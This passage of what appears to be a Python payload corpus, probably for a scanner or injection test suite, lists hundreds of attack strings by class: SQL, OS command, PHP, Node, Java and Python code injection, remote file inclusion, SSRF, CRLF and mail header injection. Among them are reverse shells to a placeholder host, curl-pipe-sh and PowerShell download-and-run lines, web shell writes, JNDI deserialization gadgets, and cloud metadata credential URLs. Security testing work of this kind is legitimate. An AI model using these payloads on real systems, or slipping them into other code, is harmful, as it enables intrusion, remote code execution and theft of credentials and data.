    A("' UNION SELECT sql,NULL FROM sqlite_master--"),
    A("' AND 1=like('ABCDEFG',upper(hex(randomblob(300000000))))--"),
    A("'; EXEC xp_cmdshell 'whoami'--"),
    A(r"'; EXEC master..xp_dirtree '\\§A\x'--"),
    A(r"' AND LOAD_FILE(CONCAT('\\\\',(SELECT authentication_string FROM mysql.user LIMIT 1),'.§A\\a'))-- -"),
    H("1'/**/OR/**/'1'='1"),
    H("1'\tOR\t1=1-- -"),
    H("1 UnIoN SeLeCt 1,user(),3-- -"),
    H("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(table_name) FROM information_schema.tables-- -"),
    H("1\x0bUNION\x0bSELECT\x0b1,2,3-- -"),
    H("' UNION SELECT 1,table_name FROM information_schema.tables WHERE table_schema=0x6170705f6462-- -"),
    H("' UNION SELECT CHAR(117,115,101,114),password FROM users-- -"),
    A("1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64"),
    H("' OR '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb-- -"),
    H("' OR JSON_EXTRACT('{\"r\":1}','$.r')=1-- -"),
    H("' OR json_extract('{\"r\":1}','$.r')=1--"),
    A("'||(SELECT current_database())::int||'"),
    H("1;SELECT $$x$$||pg_sleep(5)--"),
    A("1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    H("(SELECT*FROM(SELECT(SLEEP(7)))x)"),
    A("1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)-- -"),
    A("-1' UNION ALL SELECT table_name,column_name FROM information_schema.columns-- -"),
    H("1 AND 3257=DBMS_PIPE.RECEIVE_MESSAGE(CHR(97)||CHR(98),5)"),
    A("';COPY (SELECT '') TO PROGRAM 'nslookup §A'--"),
    A(r"';DECLARE @q varchar(99);SET @q='\\§A\s';EXEC master.dbo.xp_dirtree @q;--"),
    H("'or(1)='1"),
    H("1\nUNION\nSELECT 1,user(),3-- -"),
    A("' AND 1=CONVERT(int,(SELECT DB_NAME()))--"),
    H("1' oR '2'>'1"),
    H("1 AND 1=(SELECT 1 FROM pg_user WHERE usename=CHR(112)||CHR(111)||CHR(115)||CHR(116)||CHR(103)||CHR(114)||CHR(101)||CHR(115) AND usesuper)"),
    A("'; SELECT CASE WHEN (SELECT COUNT(*) FROM users)>0 THEN pg_sleep(4) ELSE pg_sleep(0) END--"),
    A("' AND 1=(CASE WHEN substr(sqlite_version(),1,1)='3' THEN 1 ELSE load_extension(1) END)--"),
    A("1 UNION SELECT NULL,LOAD_FILE('/etc/passwd'),NULL-- -"),
    A("x' AND ORD(MID(user(),1,1))>100-- -"),
    A("' AND 1=(SELECT CASE WHEN 1=1 THEN TO_CHAR(1/0) ELSE NULL END FROM dual)--"),
    A("' UNION SELECT '<?php system($_GET[c]);?>',2 INTO OUTFILE '/var/www/html/c.php'-- -"),
    A("price,(CASE WHEN (SELECT SUBSTR(password,1,1) FROM users WHERE id=1)='a' THEN price ELSE name END)"),
    A("id DESC; DROP TABLE sessions--"),
    A("10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    A("5 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
    A("Gifts' AND '1'='1"),
    A("%' AND 1=0 UNION SELECT id,email,password_hash FROM accounts-- -"),
    A("acme' AND SUBSTRING(@@version,1,1)='8"),
    A("1,2,3) OR (1=1"),
    A("x'),('eve','eve@§A','x',1)-- -"),
    A("x', role='admin' WHERE id=7-- -"),
    A("1 ORDER BY 7-- -"),
    A("' GROUP BY users.id HAVING 1=1--"),
    A("1; INSERT INTO users(login,pw,is_admin) VALUES('svc_b','x',1)--"),
    A("' UNION SELECT NULL,username||':'||password FROM users--"),
    A("1' AND EXISTS(SELECT * FROM users WHERE username='admin' AND password LIKE 'a%')-- -"),
    A("'+(SELECT TOP 1 password FROM users)+'"),
    H("admin' AND '1'LIKE'1"),
    A("127.0.0.1' AND SLEEP(5) AND '1'='1", only=HDR_ONLY | {"cookie", "query"}),
    A("Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(6))x) AND '1'='1", only=HDR_ONLY),
]

# ---- OS command injection -------------------------------------------------
CMDI = [
    A("; id"),
    A("| whoami"),
    A("|| cat /etc/passwd"),
    A("&& uname -a"),
    A("\nid"),
    A("`id`"),
    A("$(whoami)"),
    H(";cat${IFS}/etc/passwd"),
    H(";{cat,/etc/passwd}"),
    H(";c'a't /e\"t\"c/pa''sswd"),
    H(";/???/c?t /???/p?ss??"),
    H(";a=i;b=d;$a$b"),
    H(";cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    H(r";w\ho\am\i"),
    A("127.0.0.1; ping -c 3 §A"),
    A("8.8.8.8 && curl -s http://§A/i.sh | sh"),
    A("x; nslookup $(whoami).§A"),
    A(";wget -qO- http://§IP/p|bash"),
    A("| nc §IP 4444 -e /bin/sh"),
    A("; bash -i >& /dev/tcp/§IP/443 0>&1"),
    A("; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"§IP\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    H(";echo aWQ=|base64 -d|sh"),                                   # aWQ= -> id
    A("& whoami"),
    A(r"| type C:\Windows\win.ini"),
    A(r'& cmd /c "dir C:\Users"'),
    A("& net user"),
    A(";powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://§A/a.ps1')\""),
    H("& powershell -NoP -enc " + b64utf16("whoami")),
    A(r"| certutil -urlcache -split -f http://§A/u.exe %TEMP%\u.exe"),
    H("& ^w^h^o^a^m^i"),
    H("& c^md /c who^ami"),
    A("() { :; }; /bin/bash -c 'id'"),
    A("() { :;}; echo; /usr/bin/curl http://§A/$(hostname)"),
    A("$(sleep 5)"),
    A("`sleep 5`"),
    A("| sleep 5 #"),
    H(";sleep${IFS}5"),
    A("|| ping -n 6 127.0.0.1"),
    A("-oProxyCommand=sh -c 'curl http://§A/$(id -u)'"),
    A("--upload-pack=touch /tmp/pwned"),
    A("--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    A("-o /var/www/html/sh.php http://§A/sh.txt"),
    H("$(</etc/passwd)"),
    A(";tac /etc/shadow"),
    H(r";$'\x69\x64'"),
    H(r";l\s -la /"),
    H(r";X=$'cat\x20/etc/passwd'&&$X"),
    H(";cat</etc/passwd"),
    H(";{echo,aWQ=}|{base64,-d}|bash"),
    H(";$(rev<<<'imaohw')"),
    A("image.png;id"),
    A("a.jpg$(id)"),
    A("report.pdf\";curl http://§A/`whoami`;\""),
    A("https://github.com/acme/repo.git; id"),
    A("100x100;id"),
    A("prod$(id)"),
    A("8.8.8.8|id"),
    A("brightkettle.com\nid"),
    A("|timeout /t 5"),
    A("&ping -n 10 §A&"),
    A(";pwd;ls -la;"),
    A("';id;'"),
    A("\"; id; echo \""),
    H("$(curl${IFS}-s${IFS}§A/x|sh)"),
    H(";p\"\"ing -c1 §A"),
    H(";/bin/s?? -c id"),
    H(";${PATH:0:1}bin${PATH:0:1}id"),
    A(r"| powershell Get-Content C:\inetpub\wwwroot\web.config"),
    A("; php -r 'system(\"id\");'"),
]

# ---- generic code injection: PHP / Node.js / Python / Ruby / Perl / Java --
PICKLE0 = "cos\nsystem\n(S'id'\ntR."
CODE = [
    A("phpinfo();"),
    A("system('id');"),
    H("eval(base64_decode('%s'));" % b64('system("id");')),
    A("array_map('system',array('id'))"),
    A("call_user_func('passthru','uname -a')"),
    A("call_user_func_array('system',array('cat /etc/passwd'))"),
    A("array_filter(['id'],'system')"),
    A("preg_replace('/.*/e','system(\"id\")','x')"),
    A("0;}system('id');/*"),
    A("assert(\"system('id')\")"),
    H("$f='sys'.'tem';$f('id');"),
    H("('sys'.'tem')('whoami');"),
    H('"\\x73ystem"("id");'),
    A("echo fread(popen('id','r'),4096);"),
    A("passthru('ls -la /var/www');"),
    A("echo shell_exec('id');"),
    A("exec('id',$o);print_r($o);"),
    A("file_put_contents('x.php','<?php system($_GET[0]);');"),
    A("${system('id')}"),
    A("\".system('id').\""),
    A("';system('id');//"),
    A("1;phpinfo();"),
    A("require('child_process').execSync('id').toString()"),
    A("process.mainModule.require('child_process').exec('curl http://§A/?h=$(hostname)')"),
    A("global.process.mainModule.constructor._load('child_process').execSync('id')"),
    A("this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    H("eval(Buffer.from('%s','base64').toString())" % b64("require('child_process').execSync('id')")),
    A("new Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    A("'+require('child_process').execSync('id')+'"),
    A("\";process.kill(process.pid);//"),
    H("require('child_process')['ex'+'ecSync']('id')"),
    A("require('fs').readdirSync('/').join()"),
    A("__import__('os').system('id')"),
    A("__import__('os').popen('id').read()"),
    A("eval(compile('import os;os.system(\"id\")','x','exec'))"),
    A("exec(\"import subprocess;subprocess.call(['id'])\")"),
    H("getattr(__import__('o'+'s'),'sys'+'tem')('id')"),
    H("[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
    H("__builtins__.__dict__['__imp'+'ort__']('os').system('id')"),
    A("open('/etc/passwd').read()"),
    A("__import__('time').sleep(5) or 1"),
    A(PICKLE0, no={"xml"}),
    H(b64(PICKLE0), only={"cookie", "header", "json", "form"}),  # base64 of a protocol-0 pickle calling os.system('id')
    A("puts `id`"),
    A("%x(id)"),
    A("Kernel.exec('id')"),
    A("Kernel.system('cat /etc/passwd')"),
    A("IO.popen('id').read"),
    H("Kernel.send(:`, 'id')"),
    H("open('|id').read"),
    A("#{%x(id)}"),
    A("instance_eval('`uname -a`')"),
    H("Object.const_get(:Kernel).public_send(:system,'id')"),
    A('system("id");'),
    A('exec "/bin/sh";'),
    A('open(F,"id|");print <F>;'),
    H("print qx{id};"),
    A("eval \"system('id')\";"),
    A('Runtime.getRuntime().exec("id")'),
    A('new ProcessBuilder("id").start()'),
    A('"id".execute().text'),
    A("import os; os.system('id')"),
]

# ---- PHP injection: wrappers, tags, variable functions, superglobals, POP --
PHP_SHELL_B64 = "<?php system($_GET['cmd']);?>"
PHPI = [
    A("php://filter/convert.base64-encode/resource=index.php"),
    A("php://filter/read=string.rot13/resource=config.php"),
    H("php://filter/convert.iconv.UTF-8.UTF-16LE|convert.base64-encode/resource=/etc/passwd"),
    A("php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env"),
    A("php://input", only={"query"}, qbody="<?php system('id'); ?>"),
    A("data://text/plain;base64," + b64(PHP_SHELL_B64)),
    A("data:text/plain,<?php phpinfo();?>"),
    A("expect://id"),
    A("expect://ls -la /var/www"),
    A("phar://uploads/avatar_4411.jpg/x.txt"),
    A("phar:///var/www/app/storage/tmp/5f1a9c.gif"),
    A("zip://uploads/invoice.zip#shell.php"),
    H("pHp://FilTer/convert.base64-encode/resource=../app/config/parameters.php"),
    A("php://filter/resource=http://§A/s.txt"),
    A("<?php system($_GET['c']); ?>"),
    H("<?=`$_GET[0]`?>"),
    A("<?php echo shell_exec($_REQUEST['x']); ?>"),
    A("<? passthru($_POST['cmd']); ?>"),
    H('<script language="php">system("id");</script>'),
    A("<?php @eval($_POST['k']);?>"),
    A("<?=system($_COOKIE['c'])?>"),
    H("<?php $_GET['a']($_GET['b']); ?>"),
    H("${'_G'.'ET'}[0](${'_G'.'ET'}[1]);"),
    H("$a='as'.'sert';$a($_POST['x']);"),
    H("<?php $c=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$c('id');?>"),
    H("<?PhP SySteM('id'); ?>"),
    A("<?php echo `$_GET[c]`; ?>"),
    A("<?php include $_GET['p']; ?>"),
    H("GIF89a;<?php system($_GET['c']); ?>", mp=("content", "avatar.gif.php", "image/gif")),
    A("AddType application/x-httpd-php .jpg", mp=("content", ".htaccess", "text/plain"), no={"header", "query_key", "json_key"}),
    A("auto_prepend_file=/var/www/html/uploads/a.jpg", mp=("content", ".user.ini", "text/plain"), no={"query_key", "json_key"}),
    A("_SERVER[DOCUMENT_ROOT]", only={"query_key"}, qkval="http://§A/"),
    A("GLOBALS[config][include_path]", only={"query_key"}, qkval="http://§A/inc/"),
    A("_SESSION[is_admin]", only={"query_key"}, qkval="1"),
    A("-d allow_url_include=1 -d auto_prepend_file=php://input", only={"query_key"}, noval=True,
      qbody="<?php echo shell_exec('id'); ?>"),
    RAW("%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input", only={"query_key"}, noval=True,
        qbody="<?php echo shell_exec('whoami'); ?>"),
    A(php_obj("DebugLogger", [("logfile", php_s("/var/www/html/x.php")), ("buffer", php_s("<?php system($_GET[c]); ?>"))])),
    A(php_obj("ImageProcessor", [("convertCmd", php_s("id > /tmp/o; true"))])),
    A(php_obj("App\\Cache\\FileStore", [("path", php_s("/var/www/html/public/c.php")), ("data", php_s("<?=`$_GET[0]`?>"))])),
    A('a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}'),
    H(php_obj("DebugLogger", [("logfile", php_s("/var/www/html/l.php")), ("buffer", php_s("<?php passthru($_GET[x]); ?>"))]).replace("O:11:", "O:+11:", 1)),
    # base64 of O:13:"TemplateCache" writing a web shell; the app base64-decodes then unserializes
    H(b64(php_obj("TemplateCache", [("file", php_s("../../public/s.php")), ("tpl", php_s("<?php passthru($_GET['x']); ?>"))])),
      only={"cookie", "header", "json", "form", "query"}),
    A("a:1:{i:0;" + php_obj("Session", [("handler", php_obj("Mailer", [("sendmail", php_s("/usr/sbin/sendmail -X/var/www/html/m.php"))]))]) + "}"),
    A("<?php file_put_contents('/var/www/html/.x.php', base64_decode($_POST['d'])); ?>"),
    A("<?php $x=$_SERVER['HTTP_X_CMD'];echo `$x`; ?>"),
    A("<?php echo file_get_contents('/etc/passwd'); ?>"),
    A("<?php\r\nif(isset($_REQUEST['c'])){echo '<pre>'.shell_exec($_REQUEST['c']).'</pre>';}\r\n?>",
      mp=("content", "thumbnail.phtml", "application/octet-stream")),
    A("<?php array_map('system', [$_GET['c']]); ?>"),
]

# ---- Java: OGNL / SpEL / EL / MVEL / JEXL / Groovy / polymorphic JSON ------
JAVA = [
    A("%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    A("${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id')}"),
    A("%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"whoami\"})).start()}"),
    A("%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('touch /tmp/s2'))}"),
    A("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Out\",#a))}"),
    A("T(java.lang.Runtime).getRuntime().exec('id')"),
    A("#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    A("${T(java.lang.Runtime).getRuntime().exec(\"id\")}"),
    A("new java.lang.ProcessBuilder({'id'}).start()"),
    A("T(java.lang.System).getenv()"),
    A("T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())"),
    H("T(java.lang.Class).forName('java.lang.Run'+'time').getMethod('getRuntime').invoke(null).exec('id')"),
    H("T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))"),
    A("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")"),
    A("#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"),
    A("${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    A("${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime().exec('id')\")}"),
    A("#{session.setAttribute(\"rt\",\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null))}"),
    A("${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    A("@{Runtime.getRuntime().exec('id')}"),
    A("new java.lang.ProcessBuilder(\"id\").start();"),
    A("''.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('id')"),
    A("['sh','-c','id'].execute()"),
    A("@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"id\")})\ndef x", no={"header"}),
    A(["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://§A:1389/Exploit", "autoCommit": True}]),
    A({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://§A:1099/Obj", "autoCommit": True}),
    A({"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
       "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://§A/x", "autoCommit": True}}),
    A({"@class": "org.apache.xbean.propertyeditor.JndiConverter", "asText": "ldap://§A/x"}),
    A('<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>', doc=True),
    A('<?xml version="1.0" encoding="UTF-8"?><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></object></java>', doc=True),
    A("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://§A/y.jar\"]]]]"),
    A("class.module.classLoader.resources.context.parent.pipeline.first.pattern", only={"query_key", "json_key"},
      qkval="%{x}i<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
    A("class.module.classLoader.resources.context.parent.pipeline.first.directory", only={"query_key"}, qkval="webapps/ROOT"),
    A("class.classLoader.URLs[0]", only={"query_key"}, qkval="jar:http://§A/spring-exploit.jar!/"),
    A("(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))", only={"query_key", "json_key"}, qkval="1"),
    A("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", mp=("content", "status.jsp", "application/octet-stream")),
    A("<%@ page import=\"java.io.*\" %><% Process p=Runtime.getRuntime().exec(request.getParameter(\"cmd\")); out.print(new BufferedReader(new InputStreamReader(p.getInputStream())).readLine()); %>",
      mp=("content", "report.jsp", "text/plain")),
    H("Class.forName(\"java.la\"+\"ng.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")"),
    A("jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://§A/x.sql'"),
    A("${T(java.lang.Thread).sleep(5000)}"),
    A("T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/passwd'))"),
    H("#{T(java.lang.Runtime).getRuntime().exec('bash -c {echo,aWQ=}|{base64,-d}|bash')}"),
    A("${applicationScope}"),
    A("%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter().println(@java.lang.System@getProperty('user.dir'))}"),
    A("new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime().exec('id')\")"),
]

# ---- Remote file inclusion ------------------------------------------------
RFI = [
    A("http://§A/shell.txt?"),
    A("http://§A/s.txt\x00"),
    A("https://§A/r57.txt?"),
    A("http://§IP/x.php?cmd=id&"),
    A("ftp://anonymous:anon@§A/pub/c.php"),
    A(r"\\§A\share\shell.php"),
    A(r"\\§IP\pub\x.php"),
    A("smb://§A/public/inc.txt"),
    A("data:text/plain;base64," + b64("<?php phpinfo();?>")),
    A("data://text/plain,<?php system('id')?>"),
    H("hTTp://§A/c.txt?"),
    H("http://0xcb007105/x.txt?"),
    H("http://3405803781/i.txt?"),
    RAW("http%253A%252F%252F§A%252Fshell.txt%253F"),
    A("https://raw.githubusercontent.com/x0rz-dev/tools/main/s.php?"),
    A("https://pastebin.com/raw/8sJ2kD9q?"),
    A("http://§A/evil.vm"),
    A("http://§A/shell.txt#"),
    A("http://§A:8080/backdoor.txt?.php"),
    H("http://localhost@§A/x.txt?"),
    A("http://§A/shell"),
    A("ftp://§IP:21/incl.txt\x00"),
    A("https://§A/payload.txt?lang="),
    A("//§A/inc/config.php"),
    A("http://§A/phpshell.txt?/../index"),
    A("https://§A/wp.txt??"),
    A("http://§A/t.jsp"),
    H("HtTpS://§A/x.txt?"),
    A("ftp://§A/shell.txt?"),
    A("http://§A/templates/header.tpl?"),
    A("http://§A/lang/en.txt?x="),
    A("https://§A/cmd.txt?&"),
    A("http://§IP:8000/webshell.php.txt?"),
    H("http:\\\\§A\\s.txt?"),
    A("http://§A/shell.txt?include="),
    A(r"\\§A@SSL\DavWWWRoot\x.php"),
    A("http://§A/x?.txt"),
    A("https://gist.githubusercontent.com/anon-x/3c1d/raw/inc.php?"),
    H("http://§A/%2e%2e/shell.txt?"),
    A("http://§A/plugin.zip", no={"header"}),
]

# ---- SSRF -----------------------------------------------------------------
SSRF = [
    A("http://127.0.0.1:8080/admin"),
    A("http://localhost:2375/containers/json"),
    A("http://[::1]/server-status"),
    A("http://[::]:80/"),
    H("http://0/"),
    H("http://127.1/admin"),
    H("http://2130706433/"),
    H("http://017700000001/"),
    H("http://0x7f000001/"),
    H("http://0x7f.0.0.1/"),
    H("http://[::ffff:127.0.0.1]/"),
    H("http://[::ffff:7f00:1]/internal/health"),
    H("http://[0:0:0:0:0:ffff:127.0.0.1]:6379/"),
    A("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    A("http://169.254.169.254/latest/user-data"),
    A("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    A("http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    A("http://100.100.100.200/latest/meta-data/"),
    A("http://169.254.170.2/v2/credentials/"),
    A("http://[fd00:ec2::254]/latest/meta-data/"),
    H("http://169.254.169.254.nip.io/latest/meta-data/"),
    H("http://127.0.0.1.nip.io:8080/"),
    H("http://7f000001.a9fea9fe.rbndr.us/"),
    A("gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0Ax%0D%0A%2428%0D%0A%0A%0A%2A/1 * * * * id%0A%0A%0A%0D%0A"),
    A("gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cops%40§T%3E%0D%0ARCPT%20TO%3A%3Cvictim%40§A%3E%0D%0ADATA%0D%0AHi%0D%0A.%0D%0AQUIT%0D%0A"),
    A("dict://127.0.0.1:11211/stats"),
    A("dict://localhost:6379/info"),
    A("file:///etc/passwd"),
    A("file:///proc/self/environ"),
    A("file://localhost/c:/windows/win.ini"),
    A("sftp://§A:11111/"),
    H("http://app.§T@127.0.0.1/"),
    H("http://127.0.0.1#@app.§T/"),
    H("http://127.0.0.1:80\\@app.§T/"),
    H("http://app.§T.127.0.0.1.nip.io/"),
    H("http://①②⑦.⓪.⓪.①/"),
    A("http://0.0.0.0:22/"),
    H("http://[0:0:0:0:0:0:0:1]/"),
    A("http://127.127.127.127/"),
    A("http://10.0.0.1/"),
    A("http://192.168.1.1/cgi-bin/luci"),
    A("https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    A("http://consul.service.consul:8500/v1/kv/?recurse"),
    A("http://127.0.0.1:9200/_cat/indices"),
    A("jar:http://§A/x.jar!/"),
    A("netdoc:///etc/passwd"),
    A("http://metadata/computeMetadata/v1/?recursive=true"),
    A("https://§A/redirect?to=http://169.254.169.254/latest/meta-data/"),
    H("http://0251.0376.0251.0376/latest/meta-data/"),
    H("http://2852039166/latest/meta-data/"),
    H("http://0xa9fea9fe/"),
    H("http://169.254.43518/latest/meta-data/"),
    H("http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    H("http://0x7f.1/"),
    H("http://127.000.000.001/"),
    A("169.254.169.254", only={"header"}),
    A("localhost:8080", only={"header"}),
]

# ---- CRLF / header injection / response splitting / log forging ----------
CRLF = [
    A("/\r\nSet-Cookie: sessionid=attacker123; Path=/"),
    A("en\r\nSet-Cookie: admin=1"),
    A("x\r\nLocation: https://§A/phish"),
    A("x\r\n\r\n<script>alert(document.domain)</script>"),
    A("x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>"),
    A("/home\r\nX-XSS-Protection: 0"),
    RAW("%250d%250aSet-Cookie:%2520x=1"),
    RAW("%250D%250ALocation:%2520https://§A/"),
    H("/嘊嘍Set-Cookie: crlf=injected"),
    H("/dashboard\rSet-Cookie: sid=fixated"),
    H("/dashboard\nSet-Cookie: sid=fixated2"),
    A("admin\n2026-12-07 10:22:01 INFO login succeeded for user=root from 10.0.0.5"),
    A("GET / HTTP/1.1\r\nHost: internal-api\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: internal-api"),
    A("/\r\nSet-Cookie: crlf=1"),
    A("report.csv\r\nContent-Type: text/html"),
    A("https://§T\r\nAccess-Control-Allow-Origin: https://§A\r\nAccess-Control-Allow-Credentials: true"),
    A("/\r\nContent-Security-Policy: script-src *"),
    A("/\r\nRefresh: 0; url=https://§A/"),
    A("/\r\nLink: <https://§A/x.css>; rel=stylesheet"),
    A("x\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>"),
    A("fr\r\n\r\n<html><body>Session expired, <a href=https://§A/login>log in again</a></body></html>"),
    A("https://§T/cb\r\nSet-Cookie: oauth_state=known; Domain=.§T"),
    A("user=guest\r\nX-Forwarded-For: 127.0.0.1"),
    A("x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nX: "),
    A("2026-12-07T09:00:00Z\n2026-12-07T09:00:01Z ERROR payment gateway key rotated, new key=§A"),
    A("de\r\nCache-Control: public, max-age=31536000"),
    H("/\u560d\u560aLocation: https://§A/"),
    A("app.§T%0d%0aSet-Cookie: sid=attacker", only=HDR_ONLY),
    A("https%0d%0aLocation: https://§A/", only=HDR_ONLY),
    A("/account%0D%0AX-Injected:%20yes", only=HDR_ONLY),
    A("en%0aSet-Cookie:lang=xx%3Cscript%3E", only=HDR_ONLY),
    A("/\r\n\r\n{\"admin\":true}"),
    A("next\r\n X-Folded: yes"),
    A("/logout\r\nClear-Site-Data: \"*\""),
    A("ok\r\nWWW-Authenticate: Basic realm=\"Please re-enter your password\""),
    A("\r\nSet-Cookie: __Host-sess=evil; Path=/; Secure"),
    A("x\u000d\u000aSet-Cookie: u=1"),
    A("/redirect\r\nLocation: javascript:alert(1)"),
    A("info\r\nINFO 2026-12-07 audit: role=admin granted to user=eve"),
    A("id=7\r\nX-Original-URL: /admin"),
]

# ---- mail / SMTP / IMAP header injection ---------------------------------
MAIL = [
    A("attacker@§A\r\nBcc: victim1@corpmail.net,victim2@corpmail.net"),
    A("jane@§T\nCc: list@§A"),
    A("Question about invoice\r\nBcc: spam-target@§A"),
    A("x@y.com\nBcc: everyone@§T"),
    A("support request\r\nContent-Type: text/html\r\n\r\n<a href=\"https://§A/login\">Reset your password</a>"),
    A("a@b.co\r\nSubject: Your invoice is overdue\r\nX-Priority: 1"),
    A("victim@corpmail.net>\r\nRCPT TO:<spam@§A"),
    A("x@y.io\r\n.\r\nMAIL FROM:<ceo@§T>\r\nRCPT TO:<cfo@§T>\r\nDATA\r\nSubject: Wire transfer\r\n\r\nPlease pay today.\r\n.\r\n"),
    A("\"attacker\\\" -oQ/tmp/ -X/var/www/html/log.php some\"@§A"),
    A("-OQueueDirectory=/tmp -X/var/www/html/shell.php"),
    A("nobody@§A -be ${run{/usr/bin/id}}"),
    A("INBOX\r\nA002 DELETE Sent"),
    A("INBOX\"\r\nA003 LIST \"\" \"*"),
    H("=?x?q?victim=40corpmail.net=3e=00?=foo@§A"),
    A("Alice\nFrom: security@§T"),
    A("Name\r\nReply-To: phish@§A"),
    A("hello\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/html\r\n\r\n<p>You won!</p>\r\n--zz--"),
    H("hello\n.\r\nMAIL FROM:<admin@§T>\r\n"),
    H("bob@corpmail.net\r\nbCc: carol@§A"),
    A("bob@corpmail.net\nTo: all-staff@§T"),
    RAW("a@b.co%250d%250aBcc:x@§A"),
    A("attacker@§A%0d%0aBcc: victim@corpmail.net", only=HDR_ONLY),
    A("\"a\\\" -X/var/www/html/uploads/m.php -OQueueDirectory=/tmp x\"@§A", only=HDR_ONLY | {"json", "form", "query"}),
    A("ops@§T -C/etc/passwd -X/tmp/leak.txt", only=HDR_ONLY | {"form", "json"}),
    A("x@§A -f attacker -be '${run{/bin/sh -c \"id>/tmp/o\"}}'"),
    A("Feedback\r\nX-Mailer: custom\r\nBcc: harvest@§A"),
    A("Invoice #2211\r\nContent-Transfer-Encoding: base64\r\n\r\nPGh0bWw+PGEgaHJlZj0iaHR0cHM6Ly9ldmlsIj5wYXk8L2E+PC9odG1sPg=="),
    A("user@§T%0ACc:%20leak@§A", only=HDR_ONLY),
    A("marketing@§T\r\nTo: victim@corpmail.net\r\nSubject: Action required"),
    A("Newsletter\nContent-Type: text/plain\n\nClick https://§A/unsub to keep receiving mail"),
    A("INBOX.Sent\r\nA004 FETCH 1:* (BODY[HEADER])"),
    A("test@§T\r\nSender: billing@§T"),
    A("ticket 4412\r\nDisposition-Notification-To: track@§A"),
